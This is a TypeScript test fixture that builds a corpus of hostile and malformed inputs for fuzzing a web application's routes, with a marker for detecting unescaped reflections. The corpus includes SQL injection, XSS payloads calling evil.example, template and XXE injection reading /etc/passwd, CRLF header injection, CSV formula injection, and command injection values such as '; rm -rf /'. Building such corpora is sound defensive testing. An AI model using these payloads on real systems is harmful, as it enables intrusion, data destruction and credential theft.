// Malicious and malformed input, by class: what the corpus test sends to every route and API
// operation that takes input. Each payload that is markup carries a marker, so a reflection
// that was not escaped can be found in a page.

export const MARK = 'wmk7q';

const classes: Record<string, string[]> = {
  sql_injection: [
    "' OR '1'='1",
    "'; DROP TABLE cases; --",
    '" OR ""="',
    '1; SELECT pg_sleep(5)--',
    "' UNION SELECT password_hash FROM users--",
    "admin'--",
    "1' AND 1=CAST((SELECT version()) AS int)--",
    "'||(SELECT current_user)||'",
    '\\x27 OR 1=1',
    '%27%20OR%201=1',
    "') OR ('a'='a",
    '$$; DELETE FROM audit_events; $$',
  ],
  xss_script: [
    `<script>alert('${MARK}')</script>`,
    `<SCRIPT SRC=//evil.example/${MARK}.js></SCRIPT>`,
    `"><script>${MARK}</script>`,
    `</textarea><script>${MARK}</script>`,
    `</title><script>${MARK}</script>`,
    `<script>/*${MARK}*/</script>`,
  ],
  xss_attribute: [
    `" onmouseover="${MARK}"`,
    `' onfocus='${MARK}' autofocus='`,
    `<img src=x onerror=${MARK}>`,
    `<a href="javascript:${MARK}">x</a>`,
    `<div style="background:url(javascript:${MARK})">`,
    `<body onload=${MARK}>`,
  ],
  xss_svg_and_others: [
    `<svg onload=${MARK}>`,
    `<iframe src="javascript:${MARK}"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=//evil.example/${MARK}">`,
    `<math><mi xlink:href="javascript:${MARK}">x</mi></math>`,
    `<details open ontoggle=${MARK}>`,
    `<base href="//evil.example/${MARK}/">`,
  ],
  template_injection: [
    '{{ 7*7 }}',
    '{{ range.constructor("return process")() }}',
    '{% raw %}{{x}}{% endraw %}',
    '{{ "".__proto__ }}',
    '{% include "/etc/passwd" %}',
    '{{ t("service.name") | safe }}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '[[${7*7}]]',
  ],
  header_crlf: [
    'value\r\nSet-Cookie: stolen=1',
    'value%0d%0aLocation:%20//evil.example',
    'value\nX-Injected: 1',
    'value\r\n\r\n<html>',
    '\u560d\u560aSet-Cookie: a=b',
    'value%E5%98%8A%E5%98%8DX-Injected: 1',
  ],
  path_traversal: [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '/etc/passwd%00.pdf',
    '..%252f..%252fetc%252fpasswd',
    'file:///etc/passwd',
    '\\\\evil.example\\share',
  ],
  prototype_pollution: [
    '__proto__',
    'constructor',
    'prototype',
    '__proto__[polluted]',
    'constructor[prototype][polluted]',
    '{"__proto__":{"polluted":true}}',
  ],
  mass_assignment: ['org_id', 'role', 'id', 'version', 'created_by', 'user_id', 'active', 'stage'],
  json_type_confusion: ['[]', '{}', 'null', 'true', '1e400', '-0', '[object Object]', 'undefined'],
  oversized: ['A'.repeat(5_000), 'B'.repeat(70_000), `${'word '.repeat(3_000)}`],
  unicode_edge: [
    '\u202Egnp.exe',
    'Zo\u200Be\u200D',
    'e\u0301\u0301\u0301\u0301',
    '😀👩‍👩‍👧‍👦🏳️‍🌈',
    '\uFEFFbom',
    'ﬀ ﬁ ﬂ',
    'İstanbul ǅ',
    'A\u2028B\u2029C',
    '\uFFFD\uFFFF',
    'Ω≈ç√∫˜µ≤≥÷',
    'Ｓｃｒｉｐｔ',
    '\u0000\u{10FFFF}',
  ],
  null_bytes: ['a\u0000b', '\u0000', '%00', 'name\u0000.pdf', '\u0000<script>'],
  control_characters: [
    '\u0007bell',
    '\u001b[31mred\u001b[0m',
    '\u0008\u0008',
    '\u007fdel',
    '\u000bvt',
  ],
  csv_formula: [
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)*cmd|',
    '\t=1+1',
    '=HYPERLINK("http://evil.example","x")',
  ],
  command_injection: [
    '; rm -rf /',
    '$(id)',
    '`id`',
    '| cat /etc/passwd',
    '&& shutdown -h now',
    '\nid',
  ],
  ldap_and_xpath: ['*)(uid=*))(|(uid=*', "' or '1'='1' or ''='", '//*', 'admin)(&)'],
  xml_and_xxe: [
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<![CDATA[<script>x</script>]]>',
    '<!--#exec cmd="id"-->',
  ],
  number_edge: [
    '0x1A',
    '1e3',
    'NaN',
    'Infinity',
    '-1',
    '99999999999999999999',
    '1.5',
    '0',
    ' 7 ',
    '٣',
  ],
  date_edge: [
    '2026-02-30',
    '0000-00-00',
    '9999-12-31',
    '31/02/2026',
    '2026-13-01',
    '1900-01-01',
    'yesterday',
  ],
  email_edge: [
    'a@b',
    '"quoted"@example.org',
    'a@example.org\r\nBcc: x@evil.example',
    'x'.repeat(300) + '@example.org',
    'üñî@exämple.org',
  ],
  url_schemes: [
    'javascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox',
    '//evil.example',
  ],
  format_strings: ['%s%s%s%n', '%x%x%x', '{0}{1}', '%(name)s', '%%'],
  regex_dos: [`${'a'.repeat(5_000)}!`, `${'(a+)+'.repeat(50)}`, `${'1'.repeat(2_000)}x`],
  quotes_and_escapes: ['"', "'", '\\', '\\"\'', '`', '""""', "O'Brien", '\\u0000'],
  whitespace: ['', ' ', '   ', '\t', '\n\n', '\u00A0', '\u3000'],
  html_entities: ['&lt;script&gt;', '&#60;script&#62;', '&amp;amp;', '&#x3C;', '&quot;'],
  long_words: ['x'.repeat(501), 'y'.repeat(2_001), 'z'.repeat(10_001)],
  homoglyphs_and_bidi: ['раураl', 'ѕсrірt', '\u202Ahello\u202C', '\u2066isolate\u2069'],
};

export interface Payload {
  kind: string;
  value: string;
}

// Two derived classes: the injections hidden inside ordinary text, and percent-encoded once
// more (as a careless decoder would pass them on).
const INJECTIONS = [
  'sql_injection',
  'xss_script',
  'xss_attribute',
  'xss_svg_and_others',
  'template_injection',
  'header_crlf',
  'path_traversal',
  'csv_formula',
  'command_injection',
];
classes.embedded_in_text = INJECTIONS.flatMap((kind) =>
  classes[kind]!.map((value) => `Jo Bloggs ${value} was here`),
);
classes.percent_encoded = INJECTIONS.flatMap((kind) =>
  classes[kind]!.slice(0, 6).map((value) => encodeURIComponent(value)),
);

export const CORPUS: readonly Payload[] = Object.entries(classes).flatMap(([kind, values]) =>
  values.map((value) => ({ kind, value })),
);

export const CORPUS_CLASSES = Object.keys(classes);

/** A payload that is markup with the marker: found as written in a page, it was not escaped. */
export function isMarkup(payload: Payload): boolean {
  return payload.value.includes(MARK) && /<[a-z]/i.test(payload.value);
}
